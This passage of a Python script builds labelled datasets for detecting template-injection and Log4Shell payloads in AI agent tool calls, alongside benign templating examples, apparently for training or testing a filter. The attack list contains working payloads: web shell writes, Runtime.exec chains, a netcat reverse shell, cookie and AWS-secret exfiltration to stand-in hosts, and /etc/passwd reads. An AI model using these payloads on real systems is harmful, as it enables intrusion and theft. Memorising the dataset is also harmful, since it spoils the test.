    ("smarty write file", SSTI_PHP, "cms.render", {"value": "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}"}),
    ("freemarker execute", SSTI_JAVA, "report.render", {"template": "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"}),
    ("freemarker object constructor", SSTI_JAVA, "report.render", {"template": "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}"}),
    ("freemarker api classloader", SSTI_JAVA, "report.render", {"template": "<#assign classloader=article.class.protectionDomain.classLoader>"}),
    ("velocity class inspect", SSTI_JAVA, "report.render", {"template": "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"}),
    ("velocity classtool", SSTI_JAVA, "kv.set", {"value": "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")"}),
    ("spring el runtime", SSTI_JAVA, "kv.set", {"value": "${T(java.lang.Runtime).getRuntime().exec('id')}"}),
    ("spel deferred runtime", SSTI_JAVA, "kv.set", {"value": "#{T(java.lang.Runtime).getRuntime().exec('calc')}"}),
    ("thymeleaf selection", SSTI_JAVA, "kv.set", {"value": "*{T(java.lang.Runtime).getRuntime().exec('id')}"}),
    ("thymeleaf preprocessing", SSTI_JAVA, "view.render", {"lang": "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"}),
    ("java el getClass forName", SSTI_JAVA, "kv.set", {"value": "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"}),
    ("java el scriptengine", SSTI_JAVA, "kv.set", {"value": "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}"}),
    ("java el processbuilder", SSTI_JAVA, "kv.set", {"value": "${new java.lang.ProcessBuilder({'id'}).start()}"}),
    ("pebble getClass", SSTI_JAVA, "report.render", {"template": "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('ls -la') }}"}),
    ("ognl struts member access", "CVE-2017-5638 (Struts2 OGNL)", "http.post", {"headers": {"Content-Type": "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd})).(#p.start())}"}}),
    ("ognl static method", "CVE-2018-11776 (Struts2 OGNL)", "http.get", {"url": "https://app.example.com/%24%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%2C%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D/actionChain1.action"}),
    ("confluence ognl", "CVE-2022-26134 (Confluence OGNL)", "http.get", {"url": "https://wiki.example.com/${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),'utf-8'))}/"}),
    ("handlebars constructor chain", SSTI_JS, "email.render", {"template": "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"}),
    ("nunjucks constructor", SSTI_JS, "kv.set", {"value": "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"}),
    ("ejs process mainModule", SSTI_JS, "report.render", {"template": "<%= process.mainModule.require('child_process').execSync('id') %>"}),
    ("pug interpolation", SSTI_JS, "kv.set", {"value": "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}"}),
    ("angular sandbox escape", "PortSwigger AngularJS sandbox escapes", "comments.create", {"text_html": "{{constructor.constructor('alert(document.domain)')()}}"}),
    ("angular $on constructor", "PortSwigger AngularJS sandbox escapes", "kv.set", {"value": "{{$on.constructor('fetch(\"//x.example/\"+document.cookie)')()}}"}),
    ("js template literal require", SSTI_JS, "kv.set", {"value": "${require('child_process').execSync('cat /etc/passwd')}"}),
    ("erb system", SSTI_RUBY, "report.render", {"template": "<%= system('cat /etc/passwd') %>"}),
    ("erb backticks", SSTI_RUBY, "report.render", {"template": "<%= `id` %>"}),
    ("erb io popen", SSTI_RUBY, "kv.set", {"value": "<%= IO.popen('id').readlines() %>"}),
    ("ruby interpolation backtick", SSTI_RUBY, "kv.set", {"value": "#{`whoami`}"}),
    ("ruby %x", SSTI_RUBY, "kv.set", {"value": "#{%x(id)}"}),
    ("slim eval", SSTI_RUBY, "kv.set", {"value": "#{eval('`id`')}"}),
    ("razor process start", SSTI_NET, "report.render", {"template": "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\");"}),
    ("razor code block", SSTI_NET, "report.render", {"template": "@{ System.Diagnostics.Process.Start(\"cmd.exe\", \"/c powershell -enc SQBFAFgA\"); }"}),
    ("log4shell ldap", LOG4J, "http.get", {"url": "https://api.example.com/search", "headers": {"User-Agent": "${jndi:ldap://198.51.100.7:1389/a}"}}),
    ("log4shell lower obfuscation", LOG4J, "logs.write", {"message": "login failed for ${${lower:j}ndi:ldap://x.attacker.example/a}"}),
    ("log4shell default-value letters", LOG4J, "kv.set", {"value": "${${::-j}${::-n}${::-d}${::-i}:rmi://x.attacker.example/a}"}),
    ("log4shell env NaN defaults", LOG4J, "kv.set", {"value": "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.attacker.example/a}"}),
    ("log4shell lower inside protocol", LOG4J, "kv.set", {"value": "${jndi:${lower:l}${lower:d}a${lower:p}://x.attacker.example/a}"}),
    ("log4shell upper", LOG4J, "kv.set", {"value": "${${upper:J}NDI:dns://x.attacker.example}"}),
    ("log4shell dns exfil env", LOG4J, "search.query_log", {"input": "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.attacker.example}"}),
    ("log4shell iiop", LOG4J, "kv.set", {"value": "${jndi:iiop://x.attacker.example/a}"}),
    ("log4shell corba", LOG4J, "kv.set", {"value": "${jndi:corba://x.attacker.example/a}"}),
    ("log4shell nds", LOG4J, "kv.set", {"value": "${jndi:nds://x.attacker.example/a}"}),
    ("log4shell http", LOG4J, "kv.set", {"value": "${jndi:http://x.attacker.example/a}"}),
    ("log4shell date lookup", LOG4J, "kv.set", {"value": "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.attacker.example/a}"}),
    ("log4shell dotless i upper", LOG4J, "kv.set", {"value": "${jnd${upper:\u0131}:ldap://x.attacker.example/a}"}),
    ("log4shell in commit message", LOG4J, "git.commit", {"message": "fix typo ${jndi:ldaps://x.attacker.example:636/Exploit}"}),
    ("log4shell in X-Api-Version", LOG4J, "http.post", {"url": "https://api.example.com/v1/items", "headers": {"X-Api-Version": "${jndi:ldap://198.51.100.7/o=tomcat}"}}),
    ("log4shell base64 wrapped", LOG4J, "kv.set", {"value": b64("${jndi:ldap://x.attacker.example/a}")}),
    ("log4shell url encoded", LOG4J, "http.get", {"url": "https://api.example.com/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.attacker.example%2Fa%7D"}),
    ("log4shell nested lower ctx", LOG4J, "kv.set", {"value": "${${lower:${lower:jndi}}:${lower:rmi}://x.attacker.example/a}"}),
    ("log4shell escaped dollar", LOG4J, "kv.set", {"value": "$${jndi:ldap://x.attacker.example/a}"}),
    ("jinja2 html entities", "OWASP encoding cheat sheet", "profile.update", {"name": entities("{{ ''.__class__.__mro__[1].__subclasses__() }}")}),
    ("jinja2 full-width braces", "Unicode normalization bypass (NFKC)", "profile.update", {"name": fullwidth("{{") + "7*7" + fullwidth("}}")}),
    ("jinja2 base64", "PayloadsAllTheThings (encoding)", "kv.set", {"data": b64(J_RCE)}),
    ("jinja2 unicode escapes in embedded JSON", "JSON \\u escapes", "llm.tool", {"name": "render", "arguments": '{"template": "' + uescape("{{ ''.__class__.__mro__ }}").replace("\\", "\\\\") + '"}'}),
    ("zero-width in dunder", "Unicode invisible characters", "kv.set", {"value": "{{ ''.__cla\u200bss__.__mro__[1].__subcla\u200bsses__() }}"}),
    ("function call template", SSTI_PY, "llm.tool", call("render_email", {"subject": "Hi", "body": "Hello {{ cycler.__init__.__globals__.os.popen('id').read() }}"})),
    ("probe in nested args", WSTG_SSTI, "agent.run", {"args": {"fields": [{"label": "name", "value": "{{7*7}}"}]}}),
    ("polyglot probe", "Hackmanit TInjA / SSTI polyglot", "kv.set", {"value": "${{<%[%'\"}}%\\."}),
    ("jinja2 attr chain with format", SSTI_PY, "kv.set", {"value": "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}"}),
    ("jinja2 dict walk", SSTI_PY, "kv.set", {"value": "{{ config.__class__.__init__.__globals__['os'].environ }}"}),
    ("jinja2 in email subject", SSTI_PY, "email.send", {"to": "ops@example.com", "subject": "{{ self.__init__.__globals__.__builtins__ }}", "body": "see subject"}),
    ("erb file read", SSTI_RUBY, "kv.set", {"value": "<%= File.open('/etc/passwd').read %><%= system('id') %>"}),
    ("go template method call", "PayloadsAllTheThings SSTI/Go", "kv.set", {"value": "{{ .System \"id\" }}{{ exec \"id\" }}"}),
    ("velocity runtime via set", SSTI_JAVA, "kv.set", {"value": "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"}),
    ("freemarker api", SSTI_JAVA, "kv.set", {"value": "${object?api.class.getResource(\"/\").getPath()}"}),
    ("spel in q field", SSTI_JAVA, "search.query", {"q": "${T(java.lang.Runtime).getRuntime().exec('id')}"}),
    ("bare spel injection", SSTI_JAVA, "kv.set", {"value": "T(java.lang.Runtime).getRuntime().exec('nc 203.0.113.9 4444 -e /bin/sh')"}),
    ("python format string globals", "Python str.format injection (Armin Ronacher, 2016)", "kv.set", {"value": "{user.__init__.__globals__[CONFIG][SECRET_KEY]}"}),
    ("django template debug", SSTI_PY, "kv.set", {"value": "{% debug %}{{ settings.SECRET_KEY }}"}),
    ("jinja2 arithmetic big", WSTG_SSTI, "profile.update", {"city": "{{1337*1337}}"}),
    ("el arithmetic", WSTG_SSTI, "profile.update", {"company": "${1337*1337}"}),
    ("jinja2 subclass index os wrap", SSTI_PY, "kv.set", {"value": "{{''.__class__.__base__.__subclasses__()[132].__init__.__globals__['popen']('id').read()}}"}),
    ("twig self env", SSTI_PHP, "kv.set", {"value": "{{_self.env.setCache(\"ftp://attacker.example:2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}"}),
    ("blade php", SSTI_PHP, "kv.set", {"value": "@php system('id'); @endphp"}),
    ("jsp expression", SSTI_JAVA, "kv.set", {"value": "<%= Runtime.getRuntime().exec(request.getParameter(\"cmd\")) %>"}),
    ("log4shell mixed case jndi", LOG4J, "kv.set", {"value": "${JnDi:LdAp://x.attacker.example/a}"}),
    ("log4shell sys lookups", LOG4J, "kv.set", {"value": "${${sys:foo:-j}${sys:bar:-n}${sys:baz:-d}${sys:qux:-i}:ldap://x.attacker.example/a}"}),
    ("jinja2 hex in brackets", SSTI_PY, "kv.set", {"value": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5fmro\\x5f\\x5f'] }}"}),
    ("jinja2 tilde concat", SSTI_PY, "kv.set", {"value": "{{ ()|attr('__cla'~'ss__') }}"}),
]

# --------------------------------------------------------------------------
# Hard legitimate templates.
LEGIT_TEMPLATES = [
    ("templated email", "email.send", {"to": "{{ customer.email }}", "subject": "Your order {{ order.id }} has shipped", "body": "Hi {{name}},\n\nYour order {{ order.id }} ({{ order.items | length }} items) ships on {{ order.ship_date | date('%b %d') }}.\n\nThanks!"}),
    ("jinja loop", "report.render", {"template": "{% for row in rows %}<tr><td>{{ loop.index }}</td><td>{{ row.name|e }}</td><td>{{ '%.2f'|format(row.total) }}</td></tr>{% endfor %}"}),
    ("jinja namespace counter", "report.render", {"template": "{% set ns = namespace(total=0) %}{% for i in items %}{% set ns.total = ns.total + i.price %}{% endfor %}Total: {{ ns.total }}"}),
    ("jinja cycler rows", "report.render", {"template": "{% set row_class = cycler('odd', 'even') %}{% for u in users %}<tr class=\"{{ row_class.next() }}\">{{ u.name }}</tr>{% endfor %}"}),
    ("jinja macros import", "report.render", {"template": "{% import 'macros.html' as m %}{% extends 'base.html' %}{% block content %}{{ m.button('Save') }}{% endblock %}"}),
    ("jinja include with context", "report.render", {"template": "{% include 'partials/header.html' with context %}{{ super() }}"}),
    ("jinja lipsum placeholder", "report.render", {"template": "<p>{{ lipsum(2) }}</p>"}),
    ("django template", "cms.render", {"template": "{% load static %}<img src=\"{% static 'img/logo.png' %}\">{% url 'orders:detail' order.pk %}{{ request.user.get_full_name }}"}),
    ("django csrf and trans", "cms.render", {"template": "<form method=\"post\">{% csrf_token %}{% trans \"Submit\" %}{{ form.as_p }}</form>"}),
    ("handlebars each", "email.render", {"template": "{{#each people}}<li>{{this.firstName}} {{this.lastName}}</li>{{/each}}"}),
    ("handlebars helpers", "email.render", {"template": "{{#if user.isAdmin}}{{> adminPanel}}{{else}}{{formatDate user.lastLogin \"YYYY-MM-DD\"}}{{/if}}"}),
    ("handlebars triple stash", "email.render", {"template": "<div>{{{ sanitizedHtml }}}</div>"}),
    ("liquid shopify", "cms.render", {"template": "{% for product in collection.products %}{{ product.title | upcase }} - {{ product.price | money }}{% endfor %}"}),
    ("liquid assign", "cms.render", {"template": "{% assign greeting = 'Hello' | append: ', ' | append: customer.first_name %}{{ greeting }}"}),
    ("go template range", "k8s.render", {"template": "{{ range .Items }}{{ .Name }}: {{ .Status.Phase }}\n{{ end }}"}),
    ("go template printf", "k8s.render", {"template": "{{ printf \"%s-%d\" .Name .Index }}{{ if eq .Env \"prod\" }}prod{{ end }}"}),
    ("helm values", "helm.render", {"template": "image: {{ .Values.image.repository }}:{{ .Values.image.tag | default .Chart.AppVersion }}"}),
    ("helm include nindent", "helm.render", {"template": "metadata:\n  labels:\n    {{- include \"app.labels\" . | nindent 4 }}\n  annotations:\n    checksum/config: {{ include (print $.Template.BasePath \"/configmap.yaml\") . | sha256sum }}"}),
    ("helm toYaml", "helm.render", {"template": "resources:\n  {{- toYaml .Values.resources | nindent 2 }}\n{{- with .Values.nodeSelector }}\nnodeSelector: {{ toYaml . | nindent 2 }}{{- end }}"}),
    ("helm tpl with required", "helm.render", {"template": "host: {{ required \"host is required\" .Values.ingress.host }}\nsecret: {{ .Values.existingSecret | quote }}"}),
    ("github actions sha", "ci.write_workflow", {"path": ".github/workflows/ci.yml", "content": "steps:\n  - run: echo ${{ github.sha }}\n  - run: docker push ghcr.io/acme/api:${{ github.ref_name }}"}),
    ("github actions secrets", "ci.write_workflow", {"path": ".github/workflows/deploy.yml", "content": "env:\n  TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n  AWS_REGION: ${{ vars.AWS_REGION }}\nrun: curl -H \"Authorization: Bearer ${{ secrets.API_TOKEN }}\" https://api.example.com"}),
    ("github actions expressions", "ci.write_workflow", {"content": "if: ${{ github.event_name == 'push' && contains(github.ref, 'refs/tags') }}\nkey: ${{ runner.os }}-cargo-${{ hashFiles('**/Cargo.lock') }}\nmatrix: ${{ fromJSON(needs.plan.outputs.matrix) }}"}),
    ("github actions format", "ci.write_workflow", {"content": "name: ${{ format('Deploy {0} to {1}', github.sha, inputs.env) }}\ntimeout-minutes: ${{ inputs.timeout || 30 }}"}),
    ("compose defaults", "fs.write", {"path": "docker-compose.yml", "content": "services:\n  api:\n    image: ${REGISTRY:-ghcr.io/acme}/api:${TAG:-latest}\n    environment:\n      - DATABASE_URL=${DATABASE_URL:?set it}\n      - LOG_LEVEL=${LOG_LEVEL:-info}"}),
    ("shell parameter expansion", "shell.exec", {"cmd": "cp \"${SRC_DIR:-./build}/app\" \"${HOME}/bin/${APP_NAME:-app}\" && echo ${#ARR[@]}"}),
    ("shell substring expansion", "shell.exec", {"cmd": "echo \"${GIT_SHA:0:7}\" \"${FILE%.tar.gz}\" \"${NAME//-/_}\""}),
    ("terraform interpolation", "fs.write", {"path": "main.tf", "content": "resource \"aws_s3_bucket\" \"logs\" {\n  bucket = \"${var.prefix}-logs-${var.env}\"\n  tags   = { Name = \"${local.name}\" }\n}"}),
    ("terraform templatefile", "fs.write", {"path": "user_data.tftpl", "content": "#!/bin/bash\necho \"${hostname}\" > /etc/hostname\n%{ for ip in ips ~}\necho ${ip}\n%{ endfor ~}"}),
    ("spring properties", "fs.write", {"path": "src/main/resources/application.properties", "content": "server.port=${PORT:8080}\nspring.datasource.url=${DB_URL:jdbc:postgresql://localhost:5432/app}\nspring.datasource.jndi-name=java:comp/env/jdbc/app\napp.tmp=${java.io.tmpdir}/app"}),
    ("spring value annotation", "code.review", {"code": "@Value(\"${app.retry.max:3}\")\nprivate int maxRetries;\n@Value(\"#{systemProperties['user.region']}\")\nprivate String region;"}),
    ("maven pom properties", "fs.write", {"path": "pom.xml", "content": "<version>${revision}</version><finalName>${project.artifactId}-${project.version}</finalName><directory>${project.basedir}/target</directory>"}),
    ("js template literal", "code.review", {"code": "const msg = `Hi ${user.name}, you have ${count} new ${count === 1 ? 'message' : 'messages'}`;"}),
    ("js template literal with call", "code.review", {"code": "const url = `${baseUrl}/api/users/${encodeURIComponent(id)}?page=${page + 1}`;"}),
    ("js template literal arithmetic vars", "code.review", {"code": "el.style.width = `${width * scale}px`; const ttl = `${60 * 60}`;"}),
    ("i18n icu plural", "i18n.write", {"path": "locales/en.json", "content": "{\"inbox\": \"You have {count, plural, one {# message} other {# messages}}\", \"hello\": \"Hello, {name}!\"}"}),
    ("i18n vue", "i18n.write", {"value": "Bonjour {name}, vous avez {count} notifications"}),
    ("python format string", "code.review", {"code": "print(f\"{user.name} ({user.id}) -> {obj.__class__.__name__}\")\nlog.info(\"{}: {}\".format(k, v))"}),
    ("python dunder in code", "code.run", {"code": "class Base:\n    def __init__(self):\n        self.name = type(self).__name__\n\nfor c in Base.__subclasses__():\n    print(c.__mro__)"}),
    ("ruby string interpolation", "code.review", {"code": "puts \"Hello #{user.name}, you have #{items.count} items\"\nlogger.info(\"took #{elapsed}ms\")"}),
    ("erb rails view", "code.review", {"code": "<%= link_to @user.name, user_path(@user) %>\n<% @posts.each do |post| %><%= post.title %><% end %>"}),
    ("erb database yml", "fs.write", {"path": "config/database.yml", "content": "production:\n  url: <%= ENV['DATABASE_URL'] %>\n  pool: <%= ENV.fetch('RAILS_MAX_THREADS') { 5 } %>"}),
    ("ejs view", "code.review", {"code": "<ul><% users.forEach(function(u){ %><li><%= u.name %></li><% }) %></ul>"}),
    ("jsp el", "code.review", {"code": "<c:forEach var=\"item\" items=\"${cart.items}\"><td>${item.name}</td><td>${item.price * item.qty}</td></c:forEach>"}),
    ("thymeleaf view", "code.review", {"code": "<p th:text=\"${user.name}\">Name</p><a th:href=\"@{/orders/{id}(id=${order.id})}\">view</a><span th:text=\"*{email}\"></span><div th:replace=\"~{fragments/footer :: footer}\"></div>"}),
    ("thymeleaf inline", "email.render", {"template": "<script th:inline=\"javascript\">var user = [[${user.name}]];</script><p>[[${#temporals.format(order.date, 'dd-MM-yyyy')}]]</p>"}),
    ("freemarker list", "report.render", {"template": "<#list users as user><tr><td>${user.name?html}</td><td>${user.joined?string('yyyy-MM-dd')}</td></tr></#list><#if total gt 0>${total}</#if>"}),
    ("freemarker assign", "report.render", {"template": "<#assign title = \"Monthly report\"><#include \"header.ftl\">${title?upper_case}"}),
    ("velocity template", "report.render", {"template": "#set($total = 0)#foreach($item in $items)#set($total = $total + $item.price)$item.name#end Total: $total"}),
    ("velocity formatting", "report.render", {"template": "Dear $customer.firstName,\n#if($order.shipped)Your order $order.id shipped on $date.format('yyyy-MM-dd', $order.shippedAt).#end"}),
    ("razor view", "code.review", {"code": "@model OrderViewModel\n<h1>@Model.Title</h1>\n@foreach (var item in Model.Items) { <li>@item.Name (@(item.Price * item.Quantity))</li> }\n@Html.ActionLink(\"Back\", \"Index\")"}),
    ("angular template", "code.review", {"code": "<li *ngFor=\"let item of items; index as i\">{{ i + 1 }}. {{ item.name | titlecase }}</li><span>{{ user?.address?.city }}</span>"}),
    ("vue template", "code.review", {"code": "<div v-if=\"user\">{{ user.firstName }} {{ $t('greeting', { name: user.name }) }}</div><p>{{ total.toFixed(2) }}</p>"}),
    ("twig template", "cms.render", {"template": "{% extends 'base.html.twig' %}{% block body %}{{ app.user.username }} {{ 'now'|date('Y-m-d') }}{{ path('blog_show', {slug: post.slug}) }}{% endblock %}"}),
    ("smarty template", "cms.render", {"template": "{if $user.logged_in}Welcome {$user.name|escape}{else}<a href=\"/login\">Login</a>{/if}{foreach $items as $item}{$item.title}{/foreach}"}),
    ("mustache", "email.render", {"template": "Hello {{name}}\nYou have just won {{value}} dollars!\n{{#in_ca}}Well, {{taxed_value}} dollars, after taxes.{{/in_ca}}"}),
    ("ansible jinja", "ansible.write", {"path": "roles/web/tasks/main.yml", "content": "- name: template config\n  template:\n    src: nginx.conf.j2\n    dest: \"/etc/nginx/sites-enabled/{{ inventory_hostname }}.conf\"\n  when: ansible_os_family == \"Debian\"\n  notify: reload {{ service_name | default('nginx') }}"}),
    ("ansible lookup env", "ansible.write", {"content": "db_password: \"{{ lookup('env', 'DB_PASSWORD') }}\"\nhome: \"{{ ansible_env.HOME }}\""}),
    ("prometheus alert template", "fs.write", {"path": "alerts.yml", "content": "annotations:\n  summary: \"Instance {{ $labels.instance }} down\"\n  description: \"{{ $labels.job }} has been down for more than 5 minutes. Value: {{ $value | humanize }}\""}),
    ("grafana variables", "dash.update", {"query": "sum(rate(http_requests_total{job=\"$job\", instance=~\"$instance\"}[$__rate_interval]))"}),
    ("argo workflow params", "fs.write", {"path": "wf.yaml", "content": "args: [\"{{inputs.parameters.message}}\", \"{{workflow.name}}\"]"}),
    ("gitlab ci variables", "fs.write", {"path": ".gitlab-ci.yml", "content": "script:\n  - docker build -t $CI_REGISTRY_IMAGE:$CI_COMMIT_SHORT_SHA .\n  - echo ${CI_JOB_TOKEN:+token set}"}),
    ("log4j pattern layout", "fs.write", {"path": "src/main/resources/log4j2.xml", "content": "<PatternLayout pattern=\"%d{HH:mm:ss.SSS} [%t] %-5level %logger{36} - %msg ${env:HOSTNAME} ${sys:app.name:-api}%n\"/>"}),
    ("log4j lookups doc", "fs.write", {"path": "docs/logging.md", "content": "Use `${env:LOG_LEVEL:-INFO}` and `${sys:user.home}` in the config; never log untrusted input with lookups enabled (`formatMsgNoLookups=true`)."}),
    ("security writeup quoting jndi", "docs.write", {"path": "docs/security/log4shell.md", "content": "## CVE-2021-44228\n\nAttackers sent headers such as:\n\n```\nUser-Agent: ${jndi:ldap://attacker.example/a}\n```\n\nWe upgraded to 2.17.1."}),
    ("security writeup quoting ssti", "docs.write", {"path": "docs/security/ssti.md", "content": "To test for SSTI we submit `{{7*7}}` and look for `49`. A classic Jinja2 chain is `{{ ''.__class__.__mro__[1].__subclasses__() }}`; our sandbox blocks it."}),
    ("helm values with secrets ref", "helm.render", {"template": "env:\n  - name: API_KEY\n    valueFrom:\n      secretKeyRef:\n        name: {{ .Release.Name }}-secrets\n        key: api-key"}),
    ("cloudformation sub", "fs.write", {"path": "stack.yaml", "content": "BucketName: !Sub \"${AWS::StackName}-${Environment}-assets\"\nArn: !Sub arn:aws:s3:::${BucketName}/*"}),
    ("serverless vars", "fs.write", {"path": "serverless.yml", "content": "provider:\n  stage: ${opt:stage, 'dev'}\n  region: ${env:AWS_REGION, 'eu-west-1'}\n  memorySize: ${self:custom.memory.${self:provider.stage}}"}),
    ("nginx variables", "fs.write", {"path": "/etc/nginx/conf.d/app.conf", "content": "proxy_set_header Host $host;\nproxy_set_header X-Real-IP $remote_addr;\nlog_format main '$remote_addr - $request_time ${upstream_response_time}';"}),
    ("systemd specifiers", "fs.write", {"path": "/etc/systemd/system/worker@.service", "content": "ExecStart=/opt/worker/bin/run --id %i --home ${HOME}\nEnvironment=NODE_ENV=production"}),
    ("sql with placeholders", "db.query", {"query": "SELECT * FROM orders WHERE customer_id = ${customerId} AND created_at > {{ start_date }}"}),
    ("dbt jinja", "fs.write", {"path": "models/orders.sql", "content": "{{ config(materialized='incremental', unique_key='id') }}\nselect * from {{ ref('stg_orders') }}\n{% if is_incremental() %}where updated_at > (select max(updated_at) from {{ this }}){% endif %}"}),
    ("airflow macros", "fs.write", {"path": "dags/etl.py", "content": "bash_command = \"python etl.py --date {{ ds }} --next {{ macros.ds_add(ds, 1) }} --run {{ run_id }}\""}),
    ("email with config word", "email.send", {"to": "ops@example.com", "subject": "Config drift", "body": "Hi {{ recipient.first_name }}, the {{ config_name }} setting on {{ host }} changed. See {{ dashboard_url }}."}),
    ("template with self reference", "report.render", {"template": "{% macro render(item) %}{{ item.label }}{% if item.children %}{{ self.render(item.children) }}{% endif %}{% endmacro %}"}),
    ("markdown with braces", "docs.write", {"path": "README.md", "content": "Configure `{ \"port\": 8080 }` then run `make`. Use `${VAR}` placeholders in `.env.template` and `{{ name }}` in emails."}),
    ("json schema with $ref", "fs.write", {"path": "schema.json", "content": "{\"$schema\": \"https://json-schema.org/draft/2020-12/schema\", \"$ref\": \"#/$defs/user\", \"$defs\": {\"user\": {\"type\": \"object\"}}}"}),
    ("css with scss interpolation", "fs.write", {"path": "styles.scss", "content": ".btn-#{$name} { width: calc(100% - #{$gutter * 2}); } @media (min-width: #{$bp}) { .x { color: $primary; } }"}),
    ("latex braces", "docs.write", {"content": "The area is $\\frac{a \\cdot b}{2}$ and ${n \\choose k}$ counts subsets."}),
    ("powershell subexpression", "shell.exec", {"cmd": "Write-Host \"User: $($env:USERNAME) at $(Get-Date -Format o)\"; ${env:Path} -split ';'"}),
    ("makefile vars", "fs.write", {"path": "Makefile", "content": "VERSION ?= $(shell git describe --tags)\nbuild:\n\tgo build -ldflags \"-X main.version=${VERSION}\" -o bin/$(APP) ./cmd/$(APP)"}),
    ("kustomize vars", "fs.write", {"content": "image: $(IMAGE_NAME):$(IMAGE_TAG)\nvalue: ${SERVICE_HOST}"}),
    ("email with at signs", "email.send", {"to": "a@example.com", "subject": "Meeting @ 10", "body": "Ping @maria and @(ops-team) about {{ ticket.id }}; cc #infra"}),
    ("razor email template", "email.render", {"template": "<p>Dear @Model.Customer.Name,</p><p>Total: @Model.Total.ToString(\"C\")</p>@if (Model.IsVip) { <b>VIP</b> }"}),
    ("go text template with call", "k8s.render", {"template": "{{ define \"main\" }}{{ template \"header\" . }}{{ len .Items }} items, {{ index .Labels \"app\" }}{{ end }}"}),
    ("jinja filters heavy", "report.render", {"template": "{{ users | selectattr('active') | map(attribute='email') | join(', ') }} {{ amount | round(2) }} {{ text | truncate(80) | striptags }}"}),
    ("jinja with system var names", "report.render", {"template": "Host {{ system_name }} runs {{ os_version }}; exec time {{ exec_time_ms }} ms; {{ item.exec_count }} runs"}),
    ("github issue template", "fs.write", {"path": ".github/ISSUE_TEMPLATE/bug.yml", "content": "body:\n  - type: textarea\n    attributes:\n      label: Version\n      placeholder: ${{ env.VERSION }} or {{ version }}"}),
    ("handlebars lookup helper", "email.render", {"template": "{{lookup translations locale}} {{#each items as |item idx|}}{{idx}}: {{item.name}}{{/each}}"}),
    ("numbered multiplication text", "docs.write", {"content": "A 7*7 grid has 49 cells; the 1920*1080 display is 16:9."}),
    ("spring el legit", "fs.write", {"path": "SecurityConfig.java", "content": "@PreAuthorize(\"hasRole('ADMIN') or #userId == authentication.principal.id\")\n@Cacheable(value = \"users\", key = \"#{'user-' + #id}\")"}),
    ("nunjucks template", "email.render", {"template": "{% set total = items | sum(attribute='price') %}{{ 'Total: %s' | format(total) }}{% raw %}{{ not rendered }}{% endraw %}"}),
    ("jinja config var from app", "report.render", {"template": "<title>{{ config.SITE_NAME }}</title><link href=\"{{ url_for('static', filename='app.css') }}\">"}),
]


def write(name, rows):
    path = os.path.join(OUT, name)
    with open(path, "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    print(f"{name}: {len(rows)}")


def main():
    os.makedirs(OUT, exist_ok=True)
    rows = []
    for i, (tech, src, tool, payload) in enumerate(PATH_ATTACKS, 1):
        rows.append({"id": f"path-a-{i:03d}", "label": "attack", "family": "path_traversal", "technique": tech, "source": src, "tool": tool, "payload": payload})
    write("path.jsonl", rows)
    rows = []
    for i, (tech, src, tool, payload) in enumerate(TEMPLATE_ATTACKS, 1):
        rows.append({"id": f"tpl-a-{i:03d}", "label": "attack", "family": "template_injection", "technique": tech, "source": src, "tool": tool, "payload": payload})
    write("template.jsonl", rows)
    rows = []
    for i, (tech, tool, payload) in enumerate(LEGIT_FILES, 1):
        rows.append({"id": f"files-l-{i:03d}", "label": "legit", "family": "path_traversal", "technique": tech, "source": "ops:file-operations", "tool": tool, "payload": payload})
    write("legit-files.jsonl", rows)
    rows = []
    for i, (tech, tool, payload) in enumerate(LEGIT_TEMPLATES, 1):
        rows.append({"id": f"tpl-l-{i:03d}", "label": "legit", "family": "template_injection", "technique": tech, "source": "ops:templating", "tool": tool, "payload": payload})
    write("legit-templates.jsonl", rows)


if __name__ == "__main__":
    main()
